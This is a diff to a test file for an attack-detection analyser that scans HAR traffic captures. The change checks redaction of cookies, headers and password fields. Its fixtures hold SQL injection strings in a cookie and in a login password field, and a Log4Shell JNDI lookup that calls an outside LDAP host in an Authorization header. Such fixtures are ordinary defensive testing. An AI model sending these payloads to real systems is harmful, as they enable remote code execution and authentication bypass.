@@ -197,36 +197,47 @@ describe('tx-prevent-analyzer analyze', () => {
     expect(stderr).toMatch(/not analysed:\n {2}TLS connections in a capture \(encrypted: capture where TLS is terminated\) {2}1\n/);
   });
 
-  it('analyses credentials as recorded with --no-redact, where an attack may hide', async () => {
+  it('redacts as the sensor does: payloads in cookies and credentials stay in clear, a password field only with --no-redact', async () => {
+    const entry = (url: string, headers: Array<{ name: string; value: string }>, postData?: { mimeType: string; text: string }) => ({
+      startedDateTime: '2026-11-20T10:00:00.000Z',
+      request: {
+        method: postData ? 'POST' : 'GET',
+        url,
+        httpVersion: 'HTTP/1.1',
+        headers: [{ name: 'Host', value: 'app.example.com' }, ...headers],
+        ...(postData ? { postData } : {}),
+      },
+      response: { status: 200, headers: [], content: { size: 0, mimeType: 'text/html' } },
+    });
     const har = {
       log: {
         version: '1.2',
         creator: { name: 'OWASP ZAP', version: '2.15.0' },
         entries: [
-          {
-            startedDateTime: '2026-11-20T10:00:00.000Z',
-            request: {
-              method: 'GET',
-              url: 'http://app.example.com/account',
-              httpVersion: 'HTTP/1.1',
-              headers: [
-                { name: 'Host', value: 'app.example.com' },
-                { name: 'Cookie', value: "session=' OR '1'='1' -- " },
-              ],
-            },
-            response: { status: 200, headers: [], content: { size: 0, mimeType: 'text/html' } },
-          },
+          entry('http://app.example.com/account', [{ name: 'Cookie', value: "session=' OR '1'='1' -- " }]),
+          entry('http://app.example.com/api/me', [{ name: 'Authorization', value: 'Bearer ${jndi:ldap://203.0.113.9/a}' }]),
+          entry('http://app.example.com/login', [{ name: 'Content-Type', value: 'application/json' }], {
+            mimeType: 'application/json',
+            text: JSON.stringify({ user: 'alice', password: "' OR '1'='1' -- " }),
+          }),
         ],
       },
     };
     const path = file('zap.har', JSON.stringify(har));
+    const found = (run: Awaited<ReturnType<typeof analyze>>) =>
+      run.matchEvents.map((e) => [e.request_id, e.matches![0]!.classification, e.matches![0]!.location, e.matches![0]!.parameter]);
     const redacted = await analyze([path]);
     expect(redacted.code).toBe(0);
-    expect(redacted.matchEvents).toEqual([]);
+    expect(found(redacted)).toEqual([
+      ['har:zap.har:0', 'SqlInjection', 'cookie', 'session'],
+      ['har:zap.har:1', 'Log4Shell', 'header', 'Authorization'],
+    ]);
     const raw = await analyze(['--no-redact', path]);
     expect(raw.code).toBe(0);
-    expect(raw.matchEvents.map((e) => [e.request_id, e.matches![0]!.classification, e.matches![0]!.location])).toEqual([
-      ['har:zap.har:0', 'SqlInjection', 'cookie'],
+    expect(found(raw)).toEqual([
+      ['har:zap.har:0', 'SqlInjection', 'cookie', 'session'],
+      ['har:zap.har:1', 'Log4Shell', 'header', 'Authorization'],
+      ['har:zap.har:2', 'SqlInjection', 'body_json', 'password'],
     ]);
   });
 
